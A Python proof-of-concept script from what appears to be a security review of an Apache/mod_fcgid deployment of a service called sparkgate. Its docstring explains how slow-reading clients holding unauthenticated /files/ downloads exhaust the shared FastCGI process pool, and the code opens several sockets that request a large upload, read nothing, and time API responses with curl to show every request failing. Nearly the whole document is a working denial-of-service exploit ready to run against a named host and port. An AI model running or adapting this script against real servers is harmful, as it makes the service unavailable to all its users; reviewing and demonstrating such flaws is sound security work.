"""PoC (attack review): apache.conf with "Define SPARKGATE_FILES_SHARED" (PostgreSQL store)
sends /files/ to sparkgate WITHOUT a login and in the SAME mod_fcgid process class as /v1
(the same FcgidWrapper line), capped at FcgidMaxProcessesPerClass 4.  A stored upload is
streamed by a single-threaded process (files_download -> stream_body in fcgi/main.c), and
mod_fcgid forwards it only as fast as the client reads.  So N clients that open a download of
any large upload (a user's own: its URL is in the upload's answer) and read nothing hold N
processes; with N = 4 every API request -- anyone's -- times out (measured: 3 x 10 s, HTTP 000,
while 2 readers leave the API answering in ~0.03 s).

usage: fcgid_slow_download.py HOST PORT /files/ID/NAME N SECONDS USER:PASSWORD"""
import socket, subprocess, sys, time
host, port, url_path, n, secs, cred = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), float(sys.argv[5]), sys.argv[6]
def probe(tag):
    t = time.time()
    r = subprocess.run(["curl", "-s", "-m", "10", "-o", "/dev/null", "-w", "%{http_code}", "-u", cred,
                        "http://%s:%d/v1/files" % (host, port)], capture_output=True, text=True)
    print("%s: logged-in GET /v1/files: HTTP %s after %.2fs" % (tag, r.stdout, time.time() - t), flush=True)
probe("before")
socks = []
for i in range(n):
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    s.connect((host, port))
    s.sendall(("GET %s HTTP/1.1\r\nHost: x\r\n\r\n" % url_path).encode())
    socks.append(s); time.sleep(0.3)
print("%d downloads open, reading nothing" % n, flush=True)
t0 = time.time()
while time.time() - t0 < secs:
    probe("during")
for s in socks: s.close()
time.sleep(1)
probe("after")
